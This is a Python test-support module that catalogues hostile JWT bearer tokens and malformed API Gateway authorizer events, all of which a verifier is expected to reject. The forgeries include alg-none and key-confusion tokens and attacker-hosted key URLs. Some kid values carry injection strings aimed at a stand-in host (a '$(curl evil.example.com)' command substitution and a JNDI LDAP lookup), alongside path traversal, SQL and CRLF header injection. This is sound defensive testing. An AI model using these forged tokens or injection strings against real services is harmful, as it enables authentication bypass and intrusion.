"""A catalogue of hostile Authorization values and events, each of which must get exactly `Unauthorized`.

Every case is built against a real provider stand-in: tokens carry the trusted issuer and are signed with
the published key wherever that makes the attack stronger (a correctly signed token whose header or
claims are wrong must still be refused). `Forge` holds the keys; `HOSTILE_CASES` maps a readable name to
the builder of the Authorization value (or of the whole event, for malformed events).
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID
from jwt.algorithms import get_default_algorithms

from devkit.tokens import (
    AUDIENCE,
    REMOVE,
    SigningKey,
    b64url,
    b64url_json,
    claims_for,
    respellings,
    sign_segments,
)
from tests.support.harness import STAGE, token_event

#: Where an attacker's header points for keys; the provider stand-in counts hits there (there must be none).
ATTACKER_JWKS_PATH = "/attacker/jwks.json"


@dataclass
class Forge:
    issuer: str
    key: SigningKey  # published RS256 key "rsa-1"
    ec: SigningKey  # published ES256 key "ec-1"
    weak: SigningKey  # published under kid "rsa-weak", but only 1024 bits
    attacker: SigningKey  # never published
    attacker_url: str  # on the provider stand-in; must never be fetched
    now: int

    def claims(self, **overrides: Any) -> dict[str, Any]:
        return claims_for(self.issuer, now=self.now, **overrides)

    def header(self, key: SigningKey | None = None, **overrides: Any) -> dict[str, Any]:
        key = key or self.key
        header = {"alg": key.algorithm, "kid": key.kid, "typ": "JWT", **overrides}
        return {name: value for name, value in header.items() if value is not REMOVE}

    def signed(
        self,
        claims: dict[str, Any] | None = None,
        header: dict[str, Any] | None = None,
        key: SigningKey | None = None,
        algorithm: str | None = None,
    ) -> str:
        key = key or self.key
        header = header if header is not None else self.header(key)
        claims = claims if claims is not None else self.claims()
        return sign_segments(key, json.dumps(header).encode(), json.dumps(claims).encode(), algorithm)

    def valid(self, **claims: Any) -> str:
        return self.signed(self.claims(**claims))


def hmac_signed(header: dict[str, Any], claims: dict[str, Any], secret: bytes, algorithm: str) -> str:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[algorithm]
    signing_input = f"{b64url_json(header)}.{b64url_json(claims)}"
    return f"{signing_input}.{b64url(hmac.new(secret, signing_input.encode(), digest).digest())}"


def public_key_encodings(key: SigningKey) -> dict[str, bytes]:
    """The public key as an HMAC secret, in every form a confused verifier might use."""
    public = key.private_key.public_key()
    spki = serialization.PublicFormat.SubjectPublicKeyInfo
    return {
        "pem": public.public_bytes(serialization.Encoding.PEM, spki),
        "pkcs1-pem": public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1),
        "der": public.public_bytes(serialization.Encoding.DER, spki),
        "jwk": json.dumps(key.public_jwk()).encode(),
    }


def self_signed_certificate(key: SigningKey) -> str:
    """The attacker's key in a self-signed certificate, base64 DER as the x5c header carries it."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer.example.com")])
    start = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.private_key.public_key())
        .serial_number(1)
        .not_valid_before(start)
        .not_valid_after(start + datetime.timedelta(days=36_500))
        .sign(key.private_key, hashes.SHA256())
    )
    return base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()


def _bearer(build: Callable[..., str]) -> Callable[[Forge], str]:
    return lambda forge: f"Bearer {build(forge)}"


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


Builder = Callable[[Forge], object]
HOSTILE_CASES: dict[str, Builder] = {}
#: Cases whose builder returns a whole event rather than an Authorization value.
EVENT_CASES: dict[str, Callable[[Forge], object]] = {}


def _case(name: str, build: Callable[..., str]) -> None:
    assert name not in HOSTILE_CASES, name
    HOSTILE_CASES[name] = _bearer(build)


def _raw_case(name: str, build: Callable[[Forge], object]) -> None:
    assert name not in HOSTILE_CASES, name
    HOSTILE_CASES[name] = build


# alg: none, in any letter case, with and without a signature -----------------------------------------
for _none in ("none", "None", "NONE", "nOnE"):
    _case(
        f"alg {_none} without signature",
        lambda f, n=_none: f"{b64url_json(f.header(alg=n))}.{b64url_json(f.claims())}.",
    )
    _case(
        f"alg {_none} with a signature",
        lambda f, n=_none: f"{b64url_json(f.header(alg=n))}.{b64url_json(f.claims())}.{b64url(b'x' * 32)}",
    )
    _case(
        f"alg {_none} without kid",
        lambda f, n=_none: f"{b64url_json({'alg': n})}.{b64url_json(f.claims())}.{b64url(b'x' * 32)}",
    )

# Key confusion: HS* signed with the public key's bytes as the HMAC secret -----------------------------
for _hs in ("HS256", "HS384", "HS512"):
    for _form in ("pem", "pkcs1-pem", "der", "jwk"):
        _case(
            f"{_hs} signed with the public key as {_form}",
            lambda f, a=_hs, e=_form: hmac_signed(
                f.header(alg=a), f.claims(), public_key_encodings(f.key)[e], a
            ),
        )

# alg not fitting the key type or the JWK's own alg ------------------------------------------------------
_case(
    "PS256 on a key published as RS256", lambda f: f.signed(header=f.header(alg="PS256"), algorithm="PS256")
)
_case(
    "RS512 signature on a key published as RS256",
    lambda f: f.signed(header=f.header(alg="RS512"), algorithm="RS512"),
)
_case("ES256 header on the RSA kid", lambda f: f.signed(header=f.header(alg="ES256"), key=f.ec))
_case("RS256 header on the EC kid", lambda f: f.signed(header=f.header(f.ec, alg="RS256"), key=f.key))
_case("EdDSA header on the RSA kid", lambda f: f.signed(header=f.header(alg="EdDSA"), algorithm="RS256"))
_case(
    "ES256 signature made with the attacker's EC key on the EC kid",
    lambda f: f.signed(
        header=f.header(f.ec), key=SigningKey("ec-1", f.attacker.private_key, "RS256"), algorithm="RS256"
    ),
)
_case("alg as a list", lambda f: f.signed(header=f.header(alg=["RS256"])))
_case("alg missing", lambda f: f.signed(header=f.header(alg=REMOVE)))
_case("alg in lower case", lambda f: f.signed(header=f.header(alg="rs256")))

# RSA keys under 2048 bits -----------------------------------------------------------------------------
_case("signed by a published 1024-bit RSA key", lambda f: f.signed(key=f.weak))

# kid: missing, unknown, non-string, huge, path-like, injection-like -----------------------------------
for _label, _kid in {
    "missing": REMOVE,
    "null": None,
    "an integer": 1,
    "a list": ["rsa-1"],
    "an object": {"kid": "rsa-1"},
    "true": True,
    "empty": "",
    "unknown": "rsa-9",
    "case-changed": "RSA-1",
    "with trailing space": "rsa-1 ",
    "with a NUL": "rsa-1\x00",
    "huge": "k" * 6_000,
    "path-like": "../../../../etc/passwd",
    "an absolute path": "/dev/zero",
    "a URL": "https://evil.example.com/jwks.json",
    "SQL-like": "rsa-1' OR '1'='1",
    "shell-like": "$(curl evil.example.com)",
    "template-like": "{{7*7}}${jndi:ldap://evil.example.com/a}",
    "a forged log line": 'x"}\n{"level":"INFO","message":"token allowed","sub":"admin"}\r\n',
    "with ANSI escapes": "\x1b[2J\x1b[31mrsa-1",
}.items():
    _case(f"kid {_label}", lambda f, k=_kid: f.signed(header=f.header(kid=k)))

# Key locations and keys named by the token, pointing at the attacker's key -----------------------------
_case(
    "jku to the attacker's JWKS",
    lambda f: f.signed(header=f.header(f.attacker, jku=f.attacker_url), key=f.attacker),
)
_case(
    "x5u to the attacker's certificate",
    lambda f: f.signed(header=f.header(f.attacker, x5u=f.attacker_url), key=f.attacker),
)
_case(
    "jwk embedding the attacker's key under the real kid",
    lambda f: f.signed(header=f.header(jwk={**f.attacker.public_jwk(), "kid": "rsa-1"}), key=f.attacker),
)
_case(
    "jwk embedding the attacker's key under its own kid",
    lambda f: f.signed(header=f.header(f.attacker, jwk=f.attacker.public_jwk()), key=f.attacker),
)
_case(
    "x5c with the attacker's self-signed certificate",
    lambda f: f.signed(header=f.header(x5c=[self_signed_certificate(f.attacker)]), key=f.attacker),
)
_case(
    "jku to the attacker with the real kid",
    lambda f: f.signed(header=f.header(jku=f.attacker_url), key=f.attacker),
)

# crit: unknown or malformed extensions, b64: false (all correctly signed) --------------------------------
for _label, _extra in {
    "crit naming an unknown extension": {"crit": ["urn:example:unknown"], "urn:example:unknown": 1},
    "crit naming a registered claim": {"crit": ["exp"]},
    "crit empty": {"crit": []},
    "crit as a string": {"crit": "b64"},
    "crit null": {"crit": None},
    "b64 false with crit": {"crit": ["b64"], "b64": False},
    "b64 false without crit": {"b64": False},
}.items():
    _case(_label, lambda f, x=_extra: f.signed(header=f.header(**x)))


def _reshaped(f: Forge, template: str) -> str:
    """A valid token's segments (h, p, s) rearranged; h4n1/s4n1 are padded to a length no base64 has."""
    h, p, sig = f.valid().split(".")
    return template.format(
        h=h, p=p, s=sig, h4n1=h + "A" * ((1 - len(h)) % 4 or 4), s4n1=sig + "A" * ((1 - len(sig)) % 4 or 4)
    )


# Shape: JWE, segment counts, empty segments, invalid base64url ----------------------------------------
_case(
    "a JWE compact token (5 parts)",
    lambda f: ".".join(
        [b64url_json({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "rsa-1"}), *(b64url(b"x" * 32),) * 4]
    ),
)
_case(
    "the JWS JSON serialization",
    lambda f: json.dumps(
        {
            "payload": f.valid().split(".")[1],
            "signatures": [{"protected": f.valid().split(".")[0], "signature": f.valid().split(".")[2]}],
        }
    ),
)
_case("two segments", lambda f: f.valid().rsplit(".", 1)[0])
_case("one segment", lambda f: f.valid().split(".", 1)[0])
_case("four segments", lambda f: f.valid() + "." + b64url(b"x" * 32))
_case("six segments", lambda f: ".".join([f.valid()] * 2))
_case("empty signature", lambda f: f.valid().rsplit(".", 1)[0] + ".")
_case("empty header", lambda f: "." + f.valid().split(".", 1)[1])
_case("empty payload", lambda f: _reshaped(f, "{h}..{s}"))
_case("only dots", lambda f: "..")
_case("standard base64 characters", lambda f: f.valid().replace("-", "+").replace("_", "/") + "+/+/")
_case("base64 padding", lambda f: _reshaped(f, "{h}=.{p}==.{s}="))
_case("a header of length 4n+1", lambda f: _reshaped(f, "{h4n1}.{p}.{s}"))
_case("a signature of length 4n+1", lambda f: _reshaped(f, "{h}.{p}.{s4n1}"))


def _respelled(f: Forge, part: str) -> str:
    """A correctly signed token whose header, payload or signature is spelled with spare bits set.

    Header and payload get a filler member so that their segment has spare bits at all; they are signed
    as spelled, so only the spelling is wrong. The signature segment of RSA-2048 always has spare bits.
    """
    filler = 0
    while True:
        header, payload = f.header(pad="x" * filler), f.claims(pad="x" * filler)
        segments = [b64url_json(header), b64url_json(payload)]
        if all(len(segment) % 4 for segment in segments):
            break
        filler += 1
    if part != "signature":
        index = 0 if part == "header" else 1
        segments[index] = respellings(segments[index])[0]
    signing_input = ".".join(segments)
    signature = b64url(get_default_algorithms()["RS256"].sign(signing_input.encode(), f.key.private_key))
    if part == "signature":
        signature = respellings(signature)[-1]
    return f"{signing_input}.{signature}"


for _part in ("header", "payload", "signature"):
    _case(f"{_part} in non-canonical base64url", lambda f, p=_part: _respelled(f, p))

# Header or payload that is not JSON, or not an object; deep nesting; size -----------------------------
for _label, _text in {
    "not JSON": b"RS256",
    "a JSON array": b'["RS256"]',
    "a JSON string": b'"RS256"',
    "a JSON number": b"256",
    "JSON null": b"null",
    "invalid UTF-8": b'{"alg":"RS256","kid":"rsa-1","x":"\xff\xfe"}',
    "a byte-order mark": b'\xef\xbb\xbf{"alg":"RS256","kid":"rsa-1"}',
    "a NaN literal": b'{"alg":"RS256","kid":"rsa-1","x":NaN}',
    "duplicate alg": b'{"alg":"none","kid":"rsa-1","alg":"RS256"}',
    "duplicate kid": b'{"alg":"RS256","kid":"rsa-9","kid":"rsa-1"}',
    "trailing data": b'{"alg":"RS256","kid":"rsa-1"}{}',
    "nested 4,000 deep": b'{"alg":"RS256","kid":"rsa-1","x":' + _nested(4_000).encode() + b"}",
}.items():
    _case(
        f"header {_label}",
        lambda f, t=_text: sign_segments(f.key, t, json.dumps(f.claims()).encode()),
    )
for _label, _text in {
    "not JSON": b"hello",
    "a JSON array": b"[]",
    "a JSON string": b'"claims"',
    "JSON null": b"null",
    "invalid UTF-8": b'{"sub":"\xc3\x28"}',
}.items():
    _case(f"payload {_label}", lambda f, t=_text: sign_segments(f.key, json.dumps(f.header()).encode(), t))


def _with_raw_claim(f: Forge, name: str, raw_json: str) -> str:
    """A correctly signed token whose claim `name` is the JSON text given (appended last)."""
    payload = json.dumps(f.claims(**{name: REMOVE}))[:-1] + f', "{name}": {raw_json}}}'
    return sign_segments(f.key, json.dumps(f.header()).encode(), payload.encode())


_case(
    "payload with a duplicate iss",
    lambda f: sign_segments(
        f.key,
        json.dumps(f.header()).encode(),
        json.dumps(f.claims())[:-1].encode() + b', "iss": "https://evil.example.com"}',
    ),
)
_case("payload nested 4,000 deep", lambda f: _with_raw_claim(f, "x", _nested(4_000)))
_case("payload nested 33 deep", lambda f: _with_raw_claim(f, "x", _nested(32)))
_case("payload nested 33 deep in objects", lambda f: _with_raw_claim(f, "x", '{"a":' * 32 + "1" + "}" * 32))
_case(
    "header nested 33 deep",
    lambda f: sign_segments(
        f.key,
        b'{"alg":"RS256","kid":"rsa-1","x":' + _nested(32).encode() + b"}",
        json.dumps(f.claims()).encode(),
    ),
)
_case("exp a nested list", lambda f: _with_raw_claim(f, "exp", _nested(100)))
_case("a token over the size limit", lambda f: f.valid(padding="x" * 12_000))
_case("a token far over the size limit", lambda f: f.valid(padding="x" * 1_000_000))

# NumericDates (the handler runs on the real clock: margins far beyond the 30 s leeway) -------------------
for _claim in ("exp", "nbf", "iat"):
    for _label, _value in {
        "a string": "9999999999",
        "null": None,
        "true": True,
        "a list": [9_999_999_999],
        "an object": {"$date": 9_999_999_999},
        "absurdly large": 10**30,
        "beyond a double": 10**400,
        "negative": -1,
    }.items():
        _case(f"{_claim} {_label}", lambda f, c=_claim, v=_value: f.valid(**{c: v}))
_case("exp 1e400 (an infinity)", lambda f: _with_raw_claim(f, "exp", "1e400"))
_case("another claim 1e400 (an infinity)", lambda f: _with_raw_claim(f, "ratio", "1e400"))
_case("another claim -1e400", lambda f: _with_raw_claim(f, "ratio", "-1e400"))
_case("exp -0.0", lambda f: _with_raw_claim(f, "exp", "-0.0"))
_case("exp with 4,000 digits", lambda f: _with_raw_claim(f, "exp", "9" * 4_000))
_case("exp with 5,000 digits", lambda f: _with_raw_claim(f, "exp", "9" * 5_000))
_case("exp in the past", lambda f: f.valid(exp=f.now - 120))
_case("exp missing", lambda f: f.valid(exp=REMOVE))
_case("exp zero", lambda f: f.valid(exp=0))
_case("nbf in the future beyond the leeway", lambda f: f.valid(nbf=f.now + 120))
_case("iat in the future beyond the leeway", lambda f: f.valid(iat=f.now + 120))

# iss, aud, sub ---------------------------------------------------------------------------------------
_case("iss wrong", lambda f: f.valid(iss="https://evil.example.com/issuer"))
_case("iss missing", lambda f: f.valid(iss=REMOVE))
_case("iss case-changed", lambda f: f.valid(iss=f.issuer.upper()))
_case("iss path case-changed", lambda f: f.valid(iss=f.issuer.replace("issuer", "Issuer")))
_case("iss with a trailing slash", lambda f: f.valid(iss=f.issuer + "/"))
_case("iss with surrounding space", lambda f: f.valid(iss=f" {f.issuer} "))
_case("iss as a list", lambda f: f.valid(iss=[f.issuer]))
_case("iss null", lambda f: f.valid(iss=None))
_case("aud wrong", lambda f: f.valid(aud="api://other"))
_case("aud missing", lambda f: f.valid(aud=REMOVE))
_case("aud empty", lambda f: f.valid(aud=""))
_case("aud an empty list", lambda f: f.valid(aud=[]))
_case("aud case-changed", lambda f: f.valid(aud=AUDIENCE.upper()))
_case("aud an integer", lambda f: f.valid(aud=1))
_case("aud a list with a non-string", lambda f: f.valid(aud=[AUDIENCE, 1]))
_case("aud an object", lambda f: f.valid(aud={AUDIENCE: True}))
_case("sub missing", lambda f: f.valid(sub=REMOVE))
_case("sub an integer", lambda f: f.valid(sub=123))
_case("sub null", lambda f: f.valid(sub=None))
_case("sub empty", lambda f: f.valid(sub=""))
_case("sub a list", lambda f: f.valid(sub=["user-123"]))
for _label, _jti in {
    "a number": 1,
    "null": None,
    "true": True,
    "a list": ["token-1"],
    "an object": {"id": "token-1"},
}.items():
    _case(f"jti {_label}", lambda f, j=_jti: f.valid(jti=j))
_case("scope an object", lambda f: f.valid(scope={"messages:read": True}))
_case("scp a list with a number", lambda f: f.valid(scope=REMOVE, scp=["messages:read", 1]))


# Tampering ---------------------------------------------------------------------------------------------
def _tampered_payload(f: Forge) -> str:
    header, _, signature = f.valid().split(".")
    return f"{header}.{b64url_json(f.claims(sub='admin'))}.{signature}"


def _flipped_signature(f: Forge) -> str:
    header, payload, signature = f.valid().split(".")
    flipped = signature[:10] + ("A" if signature[10] != "A" else "B") + signature[11:]
    return f"{header}.{payload}.{flipped}"


def _lifted_signature(f: Forge) -> str:
    header, payload, _ = f.valid(sub="admin", scope="messages:read messages:write messages:admin").split(".")
    return f"{header}.{payload}.{f.valid().split('.')[2]}"


def _swapped_header(f: Forge) -> str:
    _, payload, signature = f.valid().split(".")
    return f"{b64url_json(f.header(typ='at+jwt'))}.{payload}.{signature}"


_case("payload tampered, signature kept", _tampered_payload)
_case("one signature character changed", _flipped_signature)
_case("signature lifted from another token", _lifted_signature)
_case("header changed, signature kept", _swapped_header)
_case("signature truncated", lambda f: f.valid()[:-8])
_case("signature doubled", lambda f: f.valid() + f.valid().split(".")[2])
_case(
    "signed by the attacker under the real kid",
    lambda f: f.signed(key=SigningKey("rsa-1", f.attacker.private_key, "RS256")),
)


def _der_ec_signature(f: Forge) -> str:
    """ES256 as cryptography produces it (DER), which JWS does not use: only raw r||s is a JWS signature."""
    from cryptography.hazmat.primitives.asymmetric import ec

    signing_input = f"{b64url_json(f.header(f.ec))}.{b64url_json(f.claims())}"
    signature = f.ec.private_key.sign(signing_input.encode(), ec.ECDSA(hashes.SHA256()))
    return f"{signing_input}.{b64url(signature)}"


_case("EC signature in DER instead of raw r||s", _der_ec_signature)
_case("EC signature of the wrong length", lambda f: f.signed(header=f.header(f.ec), key=f.ec)[:-4])


# Scheme variants (lowercase `bearer` is fine and is a positive control elsewhere) ----------------------
_raw_case("Token scheme", lambda f: f"Token {f.valid()}")
_raw_case("Basic scheme", lambda f: "Basic dXNlcjpwYXNzd29yZA==")
_raw_case("Basic scheme with a JWT", lambda f: f"Basic {f.valid()}")
_raw_case("a bare Bearer", lambda f: "Bearer")
_raw_case("Bearer and a space", lambda f: "Bearer ")
_raw_case("no scheme", lambda f: f.valid())
_raw_case("Bearer without a space", lambda f: f"Bearer{f.valid()}")
_raw_case("Bearer with a colon", lambda f: f"Bearer: {f.valid()}")
_raw_case("two spaces", lambda f: f"Bearer  {f.valid()}")
_raw_case("a tab", lambda f: f"Bearer\t{f.valid()}")
_raw_case("a leading space", lambda f: f" Bearer {f.valid()}")
_raw_case("a trailing space", lambda f: f"Bearer {f.valid()} ")
_raw_case("two tokens", lambda f: f"Bearer {f.valid()} {f.valid()}")
_raw_case("two Bearer tokens", lambda f: f"Bearer {f.valid()} Bearer {f.valid()}")
_raw_case("a comma list", lambda f: f"Bearer {f.valid()}, Bearer {f.valid()}")
_raw_case("a comma list without schemes", lambda f: f"Bearer {f.valid()},{f.valid()}")
_raw_case("a trailing newline", lambda f: f"Bearer {f.valid()}\n")
_raw_case("a CRLF header injection", lambda f: f"Bearer {f.valid()}\r\nX-Admin: 1")
_raw_case("a NUL after the token", lambda f: f"Bearer {f.valid()}\x00")
_raw_case("a NUL before the scheme", lambda f: f"\x00Bearer {f.valid()}")
_raw_case("a no-break space", lambda f: f"Bearer\u00a0{f.valid()}")
_raw_case("full-width scheme letters", lambda f: f"\uff22earer {f.valid()}")
_raw_case("a dotless-i style scheme", lambda f: f"BEAR\u0130R {f.valid()}")
_raw_case("non-ASCII in the token", lambda f: f"Bearer {f.valid()[:-2]}é")
_raw_case("a zero-width space in the token", lambda f: f"Bearer {f.valid()[:20]}\u200b{f.valid()[20:]}")
_raw_case("an empty value", lambda f: "")
_raw_case("null", lambda f: None)
_raw_case("a number", lambda f: 1)
_raw_case("a list of tokens", lambda f: [f"Bearer {f.valid()}"])
_raw_case("an object", lambda f: {"Authorization": f"Bearer {f.valid()}"})
_raw_case("bytes", lambda f: f"Bearer {f.valid()}".encode())


# Malformed events ----------------------------------------------------------------------------------------
def _event(f: Forge, **overrides: Any) -> dict[str, Any]:
    event = token_event(f"Bearer {f.valid()}")
    event.update(overrides)
    return {name: value for name, value in event.items() if value is not REMOVE}


for _label, _build in {
    "None": lambda f: None,
    "a list": lambda f: [token_event(f"Bearer {f.valid()}")],
    "a string": lambda f: f"Bearer {f.valid()}",
    "empty": lambda f: {},
    "without authorizationToken": lambda f: _event(f, authorizationToken=REMOVE),
    "without methodArn": lambda f: _event(f, methodArn=REMOVE),
    "with methodArn null": lambda f: _event(f, methodArn=None),
    "with methodArn a list": lambda f: _event(f, methodArn=[f"{STAGE}/GET/profile"]),
    "with methodArn not an ARN": lambda f: _event(f, methodArn="GET /profile"),
    "with a Lambda ARN": lambda f: _event(f, methodArn="arn:aws:lambda:eu-west-1:123456789012:function:f"),
    "with an ARN without a route": lambda f: _event(f, methodArn=STAGE),
    "with an ARN of a short account": lambda f: _event(
        f, methodArn=f"{STAGE}/GET/x".replace("123456789012", "1234")
    ),
    "with whitespace in the ARN": lambda f: _event(f, methodArn=f"{STAGE}/GET/a b"),
    "with a newline after the ARN": lambda f: _event(f, methodArn=f"{STAGE}/GET/profile\n"),
    "with an oversize ARN": lambda f: _event(f, methodArn=f"{STAGE}/GET/" + "a/" * 5_000),
    "with a lowercase method": lambda f: _event(f, methodArn=f"{STAGE}/get/profile"),
}.items():
    EVENT_CASES[f"event {_label}"] = _build
